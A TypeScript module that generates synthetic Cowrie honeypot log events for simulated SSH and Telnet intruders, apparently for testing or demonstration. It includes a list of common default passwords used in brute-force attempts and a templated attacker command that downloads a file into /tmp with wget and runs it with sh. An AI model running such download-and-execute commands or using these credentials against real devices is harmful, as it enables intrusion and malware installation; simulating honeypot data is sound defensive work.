import type { Chance } from '../chance.ts';
import { POT } from './flow-log.ts';

/** What is fetched by whoever got in: names and hashes are invented. */
export interface Malware {
  url: string;
  host: string;
  sha256: string;
}

const PASSWORDS = ['123456', 'admin', 'password', 'root', 'xc3511', 'vizxv', '888888', 'support'];
const USERS = ['root', 'root', 'root', 'admin', 'ubuntu', 'pi'];

/** The events of one visitor as Cowrie writes them, in their order. */
export function session(
  at: number,
  remote: string,
  port: 22 | 23,
  fetched: Malware | undefined,
  chance: Chance,
): string[] {
  const id = chance.hex(12);
  let now = at * 1000 + chance.between(0, 999);
  const event = (name: string, fields: object): string => {
    now += chance.between(200, 1500);
    const timestamp = `${new Date(now).toISOString().slice(0, -1)}000Z`;
    return JSON.stringify({
      eventid: `cowrie.${name}`,
      ...fields,
      sensor: 'pot-1',
      timestamp,
      src_ip: remote,
      session: id,
    });
  };
  const lines = [
    event('session.connect', {
      src_port: chance.port(),
      dst_ip: POT.address,
      dst_port: port,
      protocol: port === 22 ? 'ssh' : 'telnet',
    }),
  ];
  const username = chance.pick(USERS);
  for (let i = chance.between(1, 3); i > 0; i--)
    lines.push(event('login.failed', { username, password: chance.pick(PASSWORDS) }));
  if (fetched !== undefined) {
    const { url, sha256 } = fetched;
    lines.push(
      event('login.success', { username, password: chance.pick(PASSWORDS) }),
      event('command.input', { input: `cd /tmp; wget ${url}; sh ${url.slice(url.lastIndexOf('/') + 1)}` }),
      event('session.file_download', {
        url,
        outfile: `var/lib/cowrie/downloads/${sha256}`,
        shasum: sha256,
      }),
    );
  }
  lines.push(event('session.closed', { duration: chance.between(2, 90) }));
  return lines;
}
